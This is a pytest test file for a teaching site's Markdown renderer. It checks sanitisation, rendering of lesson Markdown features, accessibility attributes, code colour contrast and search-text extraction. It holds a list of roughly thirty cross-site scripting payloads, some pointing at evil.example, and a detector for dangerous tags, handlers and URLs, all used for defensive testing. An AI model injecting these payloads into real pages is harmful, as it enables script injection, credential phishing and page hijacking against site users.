"""Hostile Markdown is neutralised; the Markdown we teach with still renders."""

import re
from html.parser import HTMLParser

import pytest

from apps.lessons import rendering
from apps.lessons.rendering import has_mermaid, render_markdown

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    '<a href="javascript:alert(1)">click</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![img](javascript:alert(1))",
    '<svg onload="alert(1)"><circle r="5"/></svg>',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="evil.swf"></object><embed src="evil.swf">',
    '<div onclick="alert(1)" style="position:fixed;top:0">overlay</div>',
    '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
    "<style>body{display:none}</style>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<a href="https://ok.example" onmouseover="alert(1)">hover</a>',
    "<b onmouseover=alert(1)>broken <i>tags",
    "<<script>script>alert(1)<</script>/script>",
    '!!! warning "<img src=x onerror=alert(1)>Title"\n    body <script>alert(1)</script>',
    '=== "Tab <svg onload=alert(1)>"\n    content\n\n=== "Other"\n    more',
    '??? note "<iframe src=x>details"\n    hidden <img src=x onerror=alert(1)>',
    '```mermaid\ngraph TD\n  A["<img src=x onerror=alert(1)>"] --> B\n  click A "javascript:alert(1)"\n```',
    "```mermaid\n</pre><script>alert(1)</script>\n```",
    '<details open ontoggle="alert(1)"><summary>x</summary>y</details>',
    '<input type="text" onfocus="alert(1)" autofocus>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<base href="https://evil.example/">',
    '<p id="__proto__" class="x" style="background:url(javascript:alert(1))">styled</p>',
    "<!-- <script>alert(1)</script> -->",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
]

FORBIDDEN_TAGS = {
    "script", "iframe", "object", "embed", "svg", "math", "style", "meta", "link", "form",
    "base", "button", "textarea", "select", "frame", "frameset", "applet",
}  # fmt: skip


class _Elements(HTMLParser):
    """Collects the real elements and attributes (escaped text is not an element)."""

    def __init__(self):
        super().__init__()
        self.elements = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag


def elements(html):
    parser = _Elements()
    parser.feed(html)
    return parser.elements


def dangers(html: str) -> set[str]:
    """What in this HTML could run script, restyle or hijack the page; empty when it is safe."""
    found = set()
    for tag, attrs in elements(html):
        if tag in FORBIDDEN_TAGS:
            found.add(f"<{tag}>")
        for name, value in attrs.items():
            if name.startswith("on"):
                found.add("event handler")
            if name == "style":
                found.add("style attribute")
            if name in {"href", "src"} and (
                not (value or "").strip().lower().startswith(("https://", "http://", "/", "#", "mailto:"))
                or (value or "").startswith("//")
            ):
                found.add(f"unsafe {name}")
        if tag == "input" and (
            attrs.get("type") not in {"checkbox", "radio"} or "autofocus" in attrs or "formaction" in attrs
        ):
            found.add("form input")
    return found


@pytest.mark.parametrize("payload", HOSTILE)
def test_it_neutralises_hostile_markdown(payload):
    html = render_markdown(payload)
    assert dangers(html) == set(), html


def test_the_payloads_are_dangerous_without_the_sanitiser(monkeypatch):
    """Each kind of danger the test above looks for is really in the payloads: with the sanitiser
    switched off, the same check finds it, in most payloads. (A check that found nothing, or
    payloads that held nothing, would let the test above pass whatever the sanitiser did.)"""
    monkeypatch.setattr(rendering, "sanitize", lambda html: html)
    found = {payload: dangers(render_markdown(payload)) for payload in HOSTILE}
    kinds = set().union(*found.values())
    assert {"<script>", "<iframe>", "<svg>", "<style>", "<form>", "event handler", "style attribute",
            "unsafe href", "unsafe src", "form input"} <= kinds, kinds  # fmt: skip
    # Only the payloads aimed at the renderer's own escaping (a Mermaid fence) or at comments
    # hold no live element before sanitising; every other one must.
    harmless = [payload for payload, danger in found.items() if not danger]
    assert all(p.startswith(("```mermaid", "<!--")) for p in harmless), harmless
    assert len(HOSTILE) - len(harmless) >= 25


def test_it_keeps_the_markdown_lessons_use():
    html = render_markdown(
        "## Probes\n\n"
        '!!! tip "Start small"\n    Use a readiness probe.\n\n'
        '??? note "More"\n    Hidden detail.\n\n'
        '=== "kubectl"\n    ```bash\n    kubectl get pods\n    ```\n\n'
        '=== "flux"\n    Second tab.\n\n'
        "- [x] done\n- [ ] todo\n\n"
        "| a | b |\n|---|---|\n| 1 | 2 |\n\n"
        "```yaml\nkind: Pod\n```\n\n"
        "```mermaid\ngraph TD; A-->B\n```\n\n"
        "[docs](https://kubernetes.io/docs/) and ![diagram](/static/img/favicon.svg)\n"
    )
    assert '<h2 id="probes">Probes</h2>' in html
    assert 'class="admonition tip"' in html and "Start small" in html
    assert "<details" in html and "<summary>More</summary>" in html
    assert 'type="radio"' in html and 'class="tabbed-set tabbed-alternate"' in html
    assert re.search(r'<label for="__tabbed_\d+_1">kubectl</label>', html)
    assert 'type="checkbox"' in html and "task-list" in html
    assert "<table>" in html and "<td>1</td>" in html
    assert '<span class="nt">kind</span>' in html  # Pygments highlighting
    assert has_mermaid(html) and "A--&gt;B" in html
    assert '<a href="https://kubernetes.io/docs/" rel="noopener noreferrer nofollow">docs</a>' in html
    assert '<img alt="diagram" src="/static/img/favicon.svg">' in html


def test_mermaid_source_stays_text():
    html = render_markdown('```mermaid\ngraph TD\n  A["</pre><script>x</script>"]\n```')
    assert "<script" not in html
    assert "&lt;/pre&gt;" in html or "&lt;script&gt;" in html


def test_code_blocks_and_tables_scroll_in_named_boxes_a_keyboard_reaches():
    html = render_markdown("```yaml\na: 1\n```\n\n```\nplain\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n")
    assert '<pre tabindex="0" role="region" aria-label="Code example 1 (yaml)">' in html
    assert '<pre tabindex="0" role="region" aria-label="Code example 2 (text)">' in html
    assert '<div class="table-scroll" tabindex="0" role="region" aria-label="Table 1"><table>' in html
    assert html.count("</table></div>") == 1


def test_authors_cannot_set_the_scroll_boxes_attributes_themselves():
    html = render_markdown(
        '<pre tabindex="5" role="button" aria-label="x" onfocus="alert(1)">hi</pre>\n\n'
        '<div role="dialog" aria-hidden="true" tabindex="-1">hidden</div>\n'
    )
    assert "tabindex" not in html and "role=" not in html and "aria-" not in html and "onfocus" not in html


def _luminance(hex_colour: str) -> float:
    value = hex_colour.lstrip("#")
    value = "".join(c * 2 for c in value) if len(value) == 3 else value
    channels = [int(value[i : i + 2], 16) / 255 for i in (0, 2, 4)]
    linear = [c / 12.92 if c <= 0.03928 else ((c + 0.055) / 1.055) ** 2.4 for c in channels]
    return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]


def _contrast(a: str, b: str) -> float:
    high, low = sorted((_luminance(a), _luminance(b)), reverse=True)
    return (high + 0.05) / (low + 0.05)


def test_every_code_colour_is_readable_on_the_code_background():
    """WCAG AA (4.5:1) for each token colour, on its own background or the code block's."""
    from pathlib import Path

    css = (Path(__file__).resolve().parents[2] / "static/css/pygments.css").read_text()
    code_background = re.search(r"\.prose pre, \.prose \.highlight pre \{ background: (#[0-9a-f]{6})", (
        Path(__file__).resolve().parents[2] / "static/css/shirube.css").read_text()).group(1)  # fmt: skip
    low = []
    for line in css.splitlines():
        colour = re.search(r"(?<!-)color: (#[0-9A-Fa-f]{3,6})", line)
        background = re.search(r"background-color: (#[0-9A-Fa-f]{3,6})", line)
        if line.startswith(".highlight") and colour:
            ratio = _contrast(colour.group(1), background.group(1) if background else code_background)
            if ratio < 4.5:
                low.append(f"{line.split('{')[0].strip()}: {ratio:.2f}:1")
    assert not low, low


def test_the_plain_text_search_reads_has_no_markdown_tags_or_diagram_source():
    from apps.lessons.rendering import html_to_text

    html = render_markdown(
        "## Stop *gently*\n\nA **preStop** hook, then `SIGTERM` &amp; [the docs](https://example.com).\n\n"
        "- one\n- two\n\n```mermaid\ngraph TD\n  A --> B\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n"
    )
    text = html_to_text(html)
    assert text.startswith("Stop gently A preStop hook, then SIGTERM & the docs. one two")
    assert "graph TD" not in text and "https://" not in text
    assert not any(mark in text for mark in ("*", "`", "<", "](", "#"))
    assert "1 2" in text  # cells apart, not run together
